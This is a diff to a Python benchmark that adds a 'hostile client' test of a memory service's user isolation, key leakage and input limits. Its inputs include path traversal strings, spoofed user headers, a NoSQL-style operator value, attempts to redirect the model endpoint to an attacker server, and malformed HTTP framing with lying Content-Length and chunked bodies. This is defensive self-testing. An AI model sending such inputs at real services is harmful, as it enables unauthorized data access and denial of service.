+        now = sorted((r.id, r.thought) for r in agent.memories("ann"))
+        if now != sorted((r["id"], r["thought"]) for r in ann_records):
+            res.foreign_writes += 1
+            res.findings.append(f"ann's records changed: {now}")
+        for user in agent.services.store.users():
+            if user not in ("ann", "bob"):
+                res.foreign_writes += 1
+                res.findings.append(f"records stored for user {user[:40]!r}, whom no token names")
+        for r in agent.memories("bob"):
+            if any(s in r.model_dump_json() for s in ANN_SECRETS.values()):
+                res.foreign_reads += 1
+                res.findings.append(f"ann's secret in bob's record {r.id}")
+
+
+def _hostile_app_attempts(p: Prober, bob: str, ann_token: str, rid: str, attacker: Attacker, elsewhere: Path) -> None:
+    values = {
+        "base_url": attacker.url + "/v1",
+        "provider": "openai",
+        "model": "gpt-attacker",
+        "api_key": "sk-attacker",
+        "data_dir": str(elsewhere),
+        "namespace": "ann",
+    }
+    body: Any  # each attempt's JSON body, params, headers or raw bytes
+    params: Any
+    headers: Any
+    raw: Any
+    # no token or an unknown one
+    for auth in _bad_auths(ann_token):
+        for label, method, path, body in (
+            ("chat", "POST", "/chat", {"message": ASK}),
+            ("stream", "POST", "/chat/stream", {"message": ASK}),
+            ("session end", "POST", "/session/end", {}),
+            ("memories", "GET", "/memories", _UNSET),
+            ("export", "GET", "/memories/export", _UNSET),
+            ("ann's record history", "GET", f"/memories/{rid}/history", _UNSET),
+            ("forget ann's record", "DELETE", f"/memories/{rid}", _UNSET),
+        ):
+            p.send(f"{label}, auth {auth!r:.16}", method, path, auth=auth, json_body=body)
+    # ann's memories by path, body field, query, header and record id
+    for label, method, path, body, params, headers in (
+        ("ann's record history", "GET", f"/memories/{rid}/history", _UNSET, None, None),
+        ("forget ann's record", "DELETE", f"/memories/{rid}", _UNSET, None, None),
+        ("forget ann's record, user in query", "DELETE", f"/memories/{rid}", _UNSET, {"user_id": "ann"}, None),
+        ("forget ann's record, user in body", "DELETE", f"/memories/{rid}", {"user_id": "ann"}, None, None),
+        ("forget ann's record, user in header", "DELETE", f"/memories/{rid}", _UNSET, None, {"X-User-Id": "ann"}),
+        ("ann's record by path", "GET", f"/memories/{rid}", _UNSET, None, None),
+        ("ann's memories by path", "GET", "/users/ann/memories", _UNSET, None, None),
+        ("ann's export by path", "GET", "/memories/export/ann", _UNSET, None, None),
+        ("path traversal", "GET", "/memories/..%2F..%2Fusers%2Fann/history", _UNSET, None, None),
+        ("record id of 129 characters", "DELETE", "/memories/" + "a" * 129, _UNSET, None, None),
+        ("chat with a user_id field", "POST", "/chat", {"message": ASK, "user_id": "ann"}, None, None),
+        ("chat with a user field", "POST", "/chat", {"message": ASK, "user": "ann"}, None, None),
+        ("session end with a user_id field", "POST", "/session/end", {"user_id": "ann"}, None, None),
+        ("1,000-character user id", "POST", "/chat", {"message": ASK, "user_id": "u" * 1000}, None, None),
+    ):
+        p.send(label, method, path, token=bob, json_body=body, params=params, headers=headers)
+    for label, method, path, body, params, headers in (
+        ("memories, user in query", "GET", "/memories", _UNSET, {"user_id": "ann", "user": "ann"}, None),
+        ("export, user in query", "GET", "/memories/export", _UNSET, {"user_id": "ann"}, None),
+        ("export, user in body", "GET", "/memories/export", {"user_id": "ann"}, None, None),
+        (
+            "memories, user in headers",
+            "GET",
+            "/memories",
+            _UNSET,
+            None,
+            {"X-User-Id": "ann", "X-Forwarded-User": "ann"},
+        ),
+        ("ask, user in query", "POST", "/chat", {"message": ASK}, {"user_id": "ann"}, None),
+        ("ask, streamed", "POST", "/chat/stream", {"message": ASK}, None, None),
+        ("ask, model headers", "POST", "/chat", {"message": ASK}, None, {"X-Base-Url": values["base_url"]}),
+        ("end bob's session", "POST", "/session/end", {"time": T_BOB}, None, None),
+        ("ask after bob's session end", "POST", "/chat", {"message": ASK}, None, None),
+    ):
+        p.send(label, method, path, token=bob, json_body=body, params=params, headers=headers, expect="any")
+    # deployment settings as body fields and as query parameters
+    for k in DEPLOYMENT_KEYS:
+        p.send(f"chat with {k}", "POST", "/chat", token=bob, json_body={"message": ASK, k: values[k]})
+        p.send(f"session end with {k}", "POST", "/session/end", token=bob, json_body={k: values[k]})
+        p.send(
+            f"chat, {k} in query",
+            "POST",
+            "/chat",
+            token=bob,
+            json_body={"message": ASK},
+            params={k: values[k]},
+            expect="any",
+        )
+    # input a client gets wrong
+    hi = [{"role": "user", "content": "hi"}] * 201
+    for label, path, body in (
+        ("2,000,000-character message", "/chat", {"message": "x" * 2_000_000}),
+        ("16,001-character message", "/chat", {"message": "x" * 16_001}),
+        ("16,001-character message, streamed", "/chat/stream", {"message": "x" * 16_001}),
+        ("201 messages", "/chat", {"messages": hi}),
+        ("201 messages beside a message", "/chat", {"message": "hi", "messages": hi}),
+        ("message not a string", "/chat", {"message": {"$gt": ""}}),
+        ("unknown policy", "/chat", {"message": "hi", "policy": "nope"}),
+        ("1,000-character policy", "/chat", {"message": "hi", "policy": "p" * 1000}),
+        ("session end, unknown policy", "/session/end", {"policy": "nope"}),
+        ("session end, background not a bool", "/session/end", {"background": "yes please"}),
+    ):
+        p.send(label, "POST", path, token=bob, json_body=body)
+    for when in BAD_TIMES:
+        p.send(f"turn time {when[:20]!r}", "POST", "/chat", token=bob, json_body={"message": "hello", "time": when})
+        p.send(f"session end time {when[:20]!r}", "POST", "/session/end", token=bob, json_body={"time": when})
+    for label, raw in (
+        ("malformed JSON", "{not json"),
+        ("JSON array", "[]"),
+        ("JSON null", "null"),
+        ("truncated JSON", '{"message": "hi'),
+        ("nested 30,000 deep", "[" * 30_000 + "]" * 30_000),
+        ("nested 30,000 deep in a field", '{"message": "hi", "time": ' + "[" * 30_000 + "]" * 30_000 + "}"),
+        ("invalid UTF-8", b'{"message": "\xff\xfe"}'),
+        ("duplicate keys", '{"message": "hi", "message": "x", "user_id": "ann"}'),
+    ):
+        for path in ("/chat", "/session/end"):
+            # a session end's body is optional: JSON null is none
+            expect = "any" if (path, raw) == ("/session/end", "null") else "4xx"
+            ctype = {"Content-Type": "application/json"}
+            p.send(f"{path}: {label}", "POST", path, token=bob, content=raw, headers=ctype, expect=expect)
+    # huge bodies: declared, chunked, and framings no client library sends
+    p.send(
+        "10 MB body",
+        "POST",
+        "/chat",
+        token=bob,
+        content=b"x" * 10_000_000,
+        headers={"Content-Type": "application/json"},
+    )
+    chunk = b'{"message": "' + b"x" * 65_536
+    for path in ("/chat", "/session/end"):
+        p.send(f"chunked 1 MB body to {path}", "POST", path, token=bob, content=iter([chunk] * 16))
+    head = (
+        f"POST /chat HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {bob}\r\nContent-Type: application/json\r\n"
+    )
+    for label, frame in (
+        ("declared 10^12 bytes", "Content-Length: 1000000000000\r\n\r\n{}"),
+        ("declared length not a number", "Content-Length: abc\r\n\r\n{}"),
+        ("declared length negative", "Content-Length: -1\r\n\r\n{}"),
+        ("one chunk of 2^40 bytes", "Transfer-Encoding: chunked\r\n\r\n10000000000\r\n" + "x" * 100_000),
+        ("length and chunked both", "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
+    ):
+        p.raw(label, (head + frame).encode())
+
+
+def hostile(root: Path, targets: tuple[str, ...] = ("langgraph", "app")) -> list[Hostile]:
+    """The hostile client against each of ``targets`` (``langgraph``: the authenticated LangGraph
+    server; ``app``: the FastAPI example), each with ann and bob, one simulated model endpoint and one
+    attacker server."""
+    exe = _langgraph_cli()
+    if "langgraph" in targets and exe is None:
+        raise RuntimeError("langgraph CLI not installed (pip install 'langgraph-cli[inmem]')")
+    key = "sk-caim-" + os.urandom(16).hex()
+    attacker = Attacker()
+    results = []
+    try:
+        with SimulatedEndpoint(_model_table()) as ep:
+            if "langgraph" in targets and exe is not None:
+                results.append(hostile_langgraph(root, exe, key, ep, attacker))
+            if "app" in targets:
+                results.append(hostile_app(root, key, ep, attacker))
+    finally:
+        attacker.close()
+    return results
+
+
 def markdown(scenarios: list[Scenario], args: argparse.Namespace, started: datetime, seconds: float) -> str:
     lines = [
         "# Reliability: faults and load, counted",
@@ -419,15 +1349,108 @@ def markdown(scenarios: list[Scenario], args: argparse.Namespace, started: datet
     return "\n".join(lines) + "\n"
 
 
+HOSTILE_HEADING = "## Hostile client"
+HOSTILE_COLUMNS = (
+    "attempts",
+    "keys leaked",
+    "requests reaching the attacker",
+    "foreign reads",
+    "foreign writes",
+    "5xx answers",
+    "turns stored without a reply",
+    "bytes stored per byte sent",
+)
+
+
+def hostile_table(results: list[Hostile]) -> str:
+    """The hostile-client counts per target, with the target of each column beside them."""
+    lines = [
+        "| target | " + " | ".join(HOSTILE_COLUMNS) + " |",
+        "|---" * (len(HOSTILE_COLUMNS) + 1) + "|",
+    ]
+    for r in results:
+        counts = (r.keys_leaked, r.attacker_requests, r.foreign_reads, r.foreign_writes, r.server_errors, r.unanswered)
+        lines.append(
+            f"| {r.target} | {r.attempts} | " + " | ".join(str(c) for c in counts) + f" | {r.ratio:.4f} "
+            f"({r.bytes_stored:,} B / {r.bytes_sent:,} B) |"
+        )
+    lines.append("| **target** | | 0 | 0 | 0 | 0 | 0 | 0 | ≤ 2 |")
+    return "\n".join(lines) + "\n"
+
+
+def hostile_markdown(results: list[Hostile], started: datetime, seconds: float) -> str:
+    lines = [
+        HOSTILE_HEADING,
+        "",
+        f"Generated by `python benchmarks/faults.py --scenarios hostile` on {started.date()} in {seconds:.0f} s "
+        f"({os.cpu_count()} cores, load average {os.getloadavg()[0]:.1f}). Two users, ann and bob, on each target: "
+        "the authenticated LangGraph server (`langgraph dev --config deploy/langgraph.json`) and the FastAPI "
+        "example under uvicorn, both on loopback, their model a simulated OpenAI-compatible endpoint called with "
+        "a secret `CAIM_API_KEY`. ann first stores a secret fact in long-term memory, another in her open "
+        "session and (LangGraph) a third in her store item. Then bob, or a client with no or an unknown "
+        "token, tries: the run context or `config.configurable` (also threadless, batched, as a cron or an "
+        "assistant) setting `base_url` to an attacker's server on loopback (it records every request and its "
+        "headers), or `provider`, `model`, `api_key`, `data_dir`, `namespace`; ann's user id in the context, "
+        "configuration, query, headers or body; ann's thread, runs, store items and namespaces; ann's memories "
+        "by path, body field and record id; a 2,000,000-character message, 201 messages, turn times "
+        "0001-01-01 and garbage, a 1,000-character user id, malformed and deeply nested JSON, unknown "
+        "policies, bodies of 10 MB, chunked and with lying lengths. Keys leaked: requests reaching the "
+        "attacker, or answers to the hostile client, carrying the API key. Foreign reads: answers, bob's "
+        "threads or records, or the model's prompts while serving bob showing a secret of ann's. Foreign "
+        "writes: ann's thread, runs, store, records or open session changed, records for a user no token "
+        "names, a data dir made elsewhere. Bytes stored per byte sent: growth of the data dir (SQLite logs "
+        "folded in) and of the dev server's checkpoint files during the hostile phase, over the bytes the hostile "
+        "requests sent (most of them in refused bodies; the notes relate the growth to the requests served). A "
+        "stream refused after its 200 header (an `event: error` first) counts as refused.",
+        "",
+        hostile_table(results).rstrip("\n"),
+        "",
+    ]
+    for r in results:
+        answers = ", ".join(f"{k}: {v}" for k, v in sorted(r.statuses.items()))
+        served = r.bytes_stored / max(r.bytes_served, 1)
+        lines.append(
+            f"- {r.target}: {r.seconds:.0f} s; answers by status: {answers}; the requests served (2xx: bob's own "
+            f"turns, threads, reads) sent {r.bytes_served:,} B, so the growth is {served:.0f} B per byte they sent"
+        )
+        if r.not_refused:
+            lines.append(f"  - served though a refusal was expected: {'; '.join(r.not_refused)}")
+        for finding in r.findings:
+            lines.append(f"  - {finding}")
+    return "\n".join(lines) + "\n"
+
+
+def write_doc(path: Path, main_part: str | None, hostile_part: str | None) -> None:
+    """Write ``path`` from the parts that ran; a part that did not run keeps its text from the file."""
+    old = path.read_text(encoding="utf-8") if path.exists() else ""
+    old_main, _, old_hostile = old.partition(HOSTILE_HEADING)
+    old_hostile = HOSTILE_HEADING + old_hostile if old_hostile else ""
+    parts = [main_part or old_main.rstrip("\n") + "\n", hostile_part or old_hostile]
+    path.write_text("\n".join(p for p in parts if p.strip()), encoding="utf-8")
+
+
+SCENARIOS = ("kills", "malformed", "endpoint", "writers", "users", "hostile")
+
+
 def main(argv: list[str] | None = None) -> int:
     ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
     ap.add_argument("--quick", action="store_true", help="fewer rounds (a smoke run)")
     ap.add_argument("--doc", type=Path, default=None, help="also write the summary here (docs/reliability.md)")
+    ap.add_argument(
+        "--scenarios",
+        default=",".join(SCENARIOS),
+        help=f"comma-separated, of {', '.join(SCENARIOS)} (default all); --doc then rewrites only their part",
+    )
     args = ap.parse_args(argv)
+    chosen = [s.strip() for s in args.scenarios.split(",") if s.strip()]
+    unknown = sorted(set(chosen) - set(SCENARIOS))
+    if unknown or not chosen:
+        ap.error(f"unknown scenario(s) {', '.join(unknown) or '(none)'}; choose from {', '.join(SCENARIOS)}")
     q = args.quick
     started = datetime.now(UTC)
     t0 = time.perf_counter()
     scenarios = []
+    hostile_results: list[Hostile] = []
     with tempfile.TemporaryDirectory(prefix="caim-faults-") as tmp:
         root = Path(tmp)
         for name, fn in (
@@ -437,16 +1460,26 @@ def main(argv: list[str] | None = None) -> int:
             ("writers", lambda: many_writers(root, 3 if q else 8)),
             ("users", lambda: many_users(root, 10 if q else 100)),
         ):
+            if name not in chosen:
+                continue
             start = time.perf_counter()
             sc = fn()
             sc.seconds = time.perf_counter() - start
             scenarios.append(sc)
             print(f"{name}: runs {sc.runs}, expected {sc.expected}, found {sc.found}, losses {sc.losses}", flush=True)
-    text = markdown(scenarios, args, started, time.perf_counter() - t0)
-    print(text)
+        main_part = markdown(scenarios, args, started, time.perf_counter() - t0) if scenarios else None
+        hostile_part = None
+        if "hostile" in chosen:
+            h0 = time.perf_counter()
+            hostile_results = hostile(root)
+            hostile_part = hostile_markdown(hostile_results, started, time.perf_counter() - h0)
+    for part in (main_part, hostile_part):
+        if part:
+            print(part)
     if args.doc:
-        args.doc.write_text(text, encoding="utf-8")
-    return 0 if all(sc.losses == 0 for sc in scenarios) else 1
+        write_doc(args.doc, main_part, hostile_part)
+    ok = all(sc.losses == 0 for sc in scenarios) and all(r.holes == 0 for r in hostile_results)
+    return 0 if ok else 1
 
 
 if __name__ == "__main__":
